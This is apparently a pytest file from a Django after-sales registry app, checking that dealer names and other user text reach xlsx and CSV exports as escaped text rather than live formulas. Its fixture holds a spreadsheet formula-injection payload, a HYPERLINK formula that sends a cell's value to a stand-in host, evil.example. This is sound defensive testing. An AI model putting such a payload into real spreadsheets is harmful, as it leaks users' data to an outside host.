"""Formula injection: text from users reaches every xlsx and CSV we write as text, never a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from shouhou.registry.imports import RowError
from shouhou.registry.imports.report import write_report
from shouhou.registry.models import Dealer, ProductModel, Unit

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'


def formulas_in(content: bytes) -> list[bytes]:
    """The <f> elements of every worksheet of an xlsx (what Excel would evaluate)."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return [name.encode() for name in zf.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in zf.read(name)]


@pytest.fixture
def evil_dealer(dealer_a):
    Dealer.objects.filter(pk=dealer_a.pk).update(name=EVIL, contact_name="+SUM(1,2)", address="@cmd")
    dealer_a.refresh_from_db()
    model = ProductModel.objects.create(code="AB-1", name="路由器", replacement_days=15, warranty_months=12)
    Unit.objects.create(serial="A-0001", product_model=model, dealer=dealer_a, status="with_dealer")
    return dealer_a


@pytest.mark.django_db
def test_the_units_export_writes_a_formula_like_dealer_name_as_text(evil_dealer, service_center, client_for):
    response = client_for(service_center).get(reverse("unit_export_xlsx"))
    content = b"".join(response.streaming_content)
    assert formulas_in(content) == []
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    assert ws["C2"].value == EVIL and ws["C2"].data_type == "s"


@pytest.mark.django_db
def test_the_service_form_template_writes_dealer_details_as_text(evil_dealer, alice, client_for):
    content = client_for(alice).get("/portal/orders/template.xlsx").content
    assert formulas_in(content) == []
    wb = load_workbook(io.BytesIO(content))
    values = [c.value for row in wb["联系信息"].iter_rows() for c in row]
    assert EVIL in values and "+SUM(1,2)" in values


def test_the_import_error_report_escapes_formula_cells():
    errors = [RowError(row=i + 2, key="SN", column="serial", code="required", value=v)
              for i, v in enumerate(["=1+1", "+1", "-1", "@SUM(A1)", "plain"])]
    out = io.BytesIO()
    write_report(errors, out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert [r[3] for r in rows[1:]] == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "plain"]
